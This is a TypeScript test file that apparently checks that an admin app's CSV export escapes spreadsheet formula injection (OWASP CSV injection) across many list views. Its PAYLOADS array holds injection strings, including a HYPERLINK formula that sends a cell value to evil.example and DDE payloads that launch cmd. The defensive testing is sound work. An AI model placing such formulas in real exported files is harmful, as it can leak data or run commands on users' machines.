import { render, screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import type { ReactNode } from 'react';
import { type AuthProvider, type RaRecord, testDataProvider } from 'react-admin';
import { Route, Routes } from 'react-router-dom';
import { titleCase } from '../../src/shared/format';
import { i18nProvider } from '../../src/web/i18n/i18n';
import type { Column } from '../../src/web/lists/columns';
import { AUDIT_COLUMNS, AuditList } from '../../src/web/resources/audit/AuditList';
import { CUSTOMER_COLUMNS, CustomerList } from '../../src/web/resources/customers/CustomerList';
import { DISTRIBUTOR_COLUMNS, DistributorList } from '../../src/web/resources/distributors/DistributorList';
import { DISTRICT_COLUMNS, DistrictList } from '../../src/web/resources/districts/DistrictList';
import { EMPLOYEE_COLUMNS, EmployeeList } from '../../src/web/resources/employees/EmployeeList';
import { LEAD_COLUMNS, LeadList } from '../../src/web/resources/leads/LeadList';
import {
  MASTER_DISTRIBUTOR_COLUMNS,
  MasterDistributorList,
} from '../../src/web/resources/masterDistributors/MasterDistributorList';
import { PRODUCT_COLUMNS, ProductList } from '../../src/web/resources/products/ProductList';
import { PROVIDER_COLUMNS, ProviderList } from '../../src/web/resources/providers/ProviderList';
import { RETAILER_COLUMNS, RetailerList } from '../../src/web/resources/retailers/RetailerList';
import { SALE_COLUMNS, SaleList } from '../../src/web/resources/sales/SaleList';
import { STATE_COLUMNS, StateList } from '../../src/web/resources/states/StateList';
import { TEHSIL_COLUMNS, TehsilList } from '../../src/web/resources/tehsils/TehsilList';
import { TRANSACTION_COLUMNS, TransactionList } from '../../src/web/resources/transactions/TransactionList';
import { WALLET_COLUMNS, WalletPage } from '../../src/web/resources/wallet/WalletPage';
import { renderInAdmin } from './helpers';

/** Cell texts a spreadsheet would run as formulas (issue 41, item 4), one for each dangerous first character. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&B2,"Open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-1+1',
  "\tcmd|' /C calc'!A0",
  "\rcmd|' /C calc'!A0",
];
const FORMULA_START = /^[=+\-@\t\r]/;
/** Every amount and percentage of the rows: a negative number, which must stay a number in the file. */
const AMOUNT = -12.5;

const allowAll: AuthProvider = {
  login: async () => {},
  logout: async () => {},
  checkAuth: async () => {},
  checkError: async () => {},
  getPermissions: async () => 0,
  canAccess: async () => true,
};

/** Sets a dotted path ('district.name') on a record. */
const setAt = (record: Record<string, unknown>, path: string, value: unknown) => {
  const keys = path.split('.');
  let node = record;
  for (const key of keys.slice(0, -1)) {
    node[key] = (node[key] as Record<string, unknown> | undefined) ?? {};
    node = node[key] as Record<string, unknown>;
  }
  node[keys[keys.length - 1]] = value;
};

/**
 * One record a payload: every text field of the list's columns holds it, every amount holds AMOUNT; dates stay
 * dates. The looked-up names the columns read in another shape (the audit actor, the lead's district) hold it too.
 */
const rowOf = (columns: Column[], payload: string, index: number): RaRecord => {
  const record: Record<string, unknown> = {
    id: `00000000-0000-4000-8000-${String(index).padStart(12, '0')}`,
  };
  for (const column of columns) setAt(record, column.source, column.numeric ? AMOUNT : payload);
  record.createdAt = '2026-11-21T12:00:00.000Z';
  record.confirmedAt = '2026-11-22T12:00:00.000Z';
  record.actor = { _id: null, name: payload, type: null, kind: 'PUBLIC' };
  record.district = columns.some((c) => c.source === 'district') ? [{ name: payload }] : record.district;
  record.after = {};
  return record as RaRecord;
};

/** RFC 4180 rows: quoted cells may hold commas, quotes ("") and line breaks. */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  row.push(cell);
  rows.push(row);
  return rows;
};

/** Clicks Export and returns the CSV the browser was handed (react-admin saves through msSaveOrOpenBlob when present). */
const exported = async (user: ReturnType<typeof userEvent.setup>) => {
  const saved: Blob[] = [];
  Object.defineProperty(window.navigator, 'msSaveOrOpenBlob', {
    value: (blob: Blob) => saved.push(blob),
    configurable: true,
  });
  try {
    await user.click(screen.getByRole('button', { name: 'Export' }));
    await waitFor(() => expect(saved).toHaveLength(1));
    return await new Promise<string>((resolve) => {
      const reader = new FileReader();
      reader.onload = () => resolve(String(reader.result));
      reader.readAsText(saved[0]);
    });
  } finally {
    Reflect.deleteProperty(window.navigator, 'msSaveOrOpenBlob');
  }
};

const LISTS: [string, string, ReactNode, Column[]][] = [
  ['states', 'app.states', <StateList key="l" />, STATE_COLUMNS],
  ['districts', 'app.districts', <DistrictList key="l" />, DISTRICT_COLUMNS],
  ['tehsils', 'app.tehsils', <TehsilList key="l" />, TEHSIL_COLUMNS],
  ['products', 'app.products', <ProductList key="l" />, PRODUCT_COLUMNS],
  ['providers', 'app.providers', <ProviderList key="l" />, PROVIDER_COLUMNS],
  [
    'masterDistributors',
    'app.masterDistributors',
    <MasterDistributorList key="l" />,
    MASTER_DISTRIBUTOR_COLUMNS,
  ],
  ['distributors', 'app.distributors', <DistributorList key="l" />, DISTRIBUTOR_COLUMNS],
  ['retailers', 'app.retailers', <RetailerList key="l" />, RETAILER_COLUMNS],
  ['customers', 'app.customers', <CustomerList key="l" />, CUSTOMER_COLUMNS],
  ['employees', 'app.employees', <EmployeeList key="l" />, EMPLOYEE_COLUMNS],
  ['leads', 'app.leads', <LeadList key="l" />, LEAD_COLUMNS],
  ['audit', 'app.audit', <AuditList key="l" />, AUDIT_COLUMNS],
  ['sales', 'app.sales', <SaleList key="l" />, SALE_COLUMNS],
  ['transactions', 'app.transactions', <TransactionList key="l" />, TRANSACTION_COLUMNS],
  ['wallet', 'app.wallet', <WalletPage key="l" />, WALLET_COLUMNS],
];

describe('CSV export: no cell a spreadsheet would run (OWASP CSV injection)', () => {
  it.each(LISTS)(
    'the %s list writes text starting with = + - @ tab or CR after a quote, amounts as numbers',
    async (resource, texts, element, columns) => {
      const records = PAYLOADS.map((payload, i) => rowOf(columns, payload, i + 1));
      const stored = structuredClone(records);
      const getList = vi.fn().mockResolvedValue({ data: records, total: records.length });
      const user = userEvent.setup();
      render(
        renderInAdmin(
          <Routes>
            <Route path="/list" element={element} />
          </Routes>,
          { path: '/list', dataProvider: testDataProvider({ getList }), authProvider: allowAll },
        ),
      );
      await screen.findByRole('heading', { level: 1, name: i18nProvider.translate(`${texts}.title`) });
      await waitFor(() => expect(screen.getAllByRole('row').length).toBeGreaterThan(PAYLOADS.length));
      const [header, ...rows] = parseCsv(await exported(user));
      expect(rows).toHaveLength(PAYLOADS.length);
      const exportedColumns = columns.filter((column) => column.csv !== false);
      expect(header).toHaveLength(exportedColumns.length);
      rows.forEach((row, i) => {
        const prefix = PAYLOADS[i][0];
        exportedColumns.forEach((column, c) => {
          if (column.numeric) expect(row[c], `${resource} ${header[c]}`).toBe(String(AMOUNT));
          else expect(row[c], `${resource} ${header[c]}`).not.toMatch(FORMULA_START);
        });
        // The payload arrived, with the quote before it, in at least one text column.
        expect(row.some((cell) => cell.startsWith(`'${prefix}`))).toBe(true);
      });
      // The export changed the file, not the records the list holds.
      expect(records).toEqual(stored);
    },
  );

  it('keeps the text whole after the quote, and leaves other text as it is', async () => {
    const getList = vi.fn().mockResolvedValue({
      data: [
        { id: 's1', name: PAYLOADS[0], createdAt: '2026-11-21T12:00:00.000Z' },
        { id: 's2', name: 'plain state', createdAt: '2026-11-21T12:00:00.000Z' },
      ],
      total: 2,
    });
    const user = userEvent.setup();
    render(
      renderInAdmin(
        <Routes>
          <Route path="/list" element={<ProviderList />} />
        </Routes>,
        { path: '/list', dataProvider: testDataProvider({ getList }), authProvider: allowAll },
      ),
    );
    await screen.findByText('Plain State');
    const [, first, second] = parseCsv(await exported(user));
    // The name column title-cases, as on screen; the quote goes before the whole of it.
    expect(first[0]).toBe(`'${titleCase(PAYLOADS[0])}`);
    expect(first[0]).toMatch(/^'=HYPERLINK\(/);
    expect(second[0]).toBe('Plain State');
  });
});
